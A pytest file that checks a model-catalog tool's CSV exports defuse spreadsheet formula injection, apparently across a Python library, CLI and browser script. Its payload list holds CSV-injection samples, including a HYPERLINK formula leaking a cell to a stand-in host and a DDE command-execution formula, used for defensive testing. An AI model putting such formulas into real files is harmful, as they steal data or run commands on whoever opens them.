"""Abuse corpus, output that others open (issue 22): CSV cells that a spreadsheet would run as a formula are
defused as OWASP's "CSV Injection" page recommends (a leading ' and quotes) in every CSV writer: the library's
csv_text, ``modelpick export`` and the explorer's Export CSV (service/static/dom.js csvCell, run under node)."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from conftest import FIXTURES, REPO

from modelpick._csvcells import FORMULA_STARTS, csv_cell, csv_text
from modelpick.cli import main
from modelpick.cli.data import EXPORT_COLUMNS

PAYLOADS = ["=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")", "=1+2", "+1+2", "-1+2", "@SUM(A1:A2)",
            "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0", "-", "=", "@", "+", '="quoted"', "=a,b\nc"]
PLAIN = ["jetson-nano", "small.v1", "a,b", 'say "hi"', "two\nlines", "", "'already quoted", " =spaced"]


def _read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cell_gets_a_quote_and_quotes(payload):
    cell = csv_cell(payload)
    assert cell.startswith("\"'") and cell.endswith('"')
    assert _read_back(cell + "\n") == [["'" + payload]]


@pytest.mark.parametrize("value", PLAIN)
def test_plain_text_cell_round_trips_unchanged(value):
    assert _read_back(csv_text(["a", "b"], [{"a": value, "b": "x"}])) == [["a", "b"], [value, "x"]]


@pytest.mark.parametrize("value, text", [(-1.5, "-1.5"), (-3, "-3"), (0.25, "0.25"), (True, "True"), (None, "")])
def test_numbers_stay_numbers(value, text):
    # a number is never a formula: a negative latency never exists, but a negative number must stay readable
    assert csv_cell(value) == text


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_defused(start):
    assert _read_back(csv_text(["c"], [{"c": start + "x"}]))[1] == ["'" + start + "x"]


# ---------------------------------------------------------------------------
# modelpick export on a user's file whose free text is a formula


def _hostile_catalog(tmp_path: Path, reasons: list[str]) -> Path:
    """The fixture catalog with the board's measurements marked suspect for the given reasons, one each in turn."""
    data = yaml.safe_load((FIXTURES / "mini.yaml").read_text())
    rows = [m for m in data["measurements"] if m["device"] == "board-a"]
    for i, m in enumerate(rows):
        m["suspect"] = reasons[i % len(reasons)]
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


def test_cli_export_defuses_a_formula_in_a_users_file(tmp_path, capsys):
    payloads = PAYLOADS[:7]
    path = _hostile_catalog(tmp_path, payloads)
    target = tmp_path / "out.csv"
    code = main(["export", "--data", str(path), "--device", "board-a", "-o", str(target)])
    capsys.readouterr()
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(target.read_text(), newline="")))
    assert rows and list(rows[0]) == EXPORT_COLUMNS
    # the loader strips a reason's surrounding white space, so "\t=1+2" is kept as "=1+2"
    assert {r["suspect"] for r in rows} == {"'" + p.strip() for p in payloads}
    for row in rows:  # no cell a spreadsheet would run
        assert not any(v.startswith(FORMULA_STARTS) for v in row.values()), row
    assert main(["export", "--data", str(path), "--device", "board-a", "--format", "json"]) == 0
    # JSON is data, not a sheet: the value as it is
    assert {r["suspect"] for r in json.loads(capsys.readouterr().out)} == {p.strip() for p in payloads}


def test_cli_export_of_the_curated_table_has_no_formula_cell(capsys):
    assert main(["export", "--device", "jetson-nano"]) == 0
    rows = _read_back(capsys.readouterr().out)
    assert len(rows) > 10
    assert not [c for row in rows for c in row if c.startswith(FORMULA_STARTS)]


# ---------------------------------------------------------------------------
# the explorer's Export CSV: the same cell rule in the page's own module, run by node

NODE = shutil.which("node")
STATIC = REPO / "service" / "static"


@pytest.mark.skipif(NODE is None, reason="node is not installed (apt-get install nodejs)")
def test_explorer_csv_cell_matches_the_library(tmp_path):
    # dom.js imports nothing, so node can load a copy of it as an ES module
    (tmp_path / "dom.mjs").write_text((STATIC / "dom.js").read_text())
    values = PAYLOADS + PLAIN + [-1.5, 3, 0.25, None]  # booleans: the page writes true, Python True
    script = ("import { csvCell } from './dom.mjs';\n"
              f"const values = {json.dumps(values)};\n"
              "process.stdout.write(JSON.stringify(values.map(csvCell)));\n")
    (tmp_path / "t.mjs").write_text(script)
    out = subprocess.run([NODE, str(tmp_path / "t.mjs")], capture_output=True, text=True, timeout=60, check=True)
    assert json.loads(out.stdout) == [csv_cell(v) for v in values]


def test_explorer_export_writes_every_cell_through_csv_cell():
    table = (STATIC / "table.js").read_text()
    body = table[table.index("function exportCsv"):]
    body = body[:body.index("\n}\n")]
    assert "csvCell(" in body and "String(v)" not in body
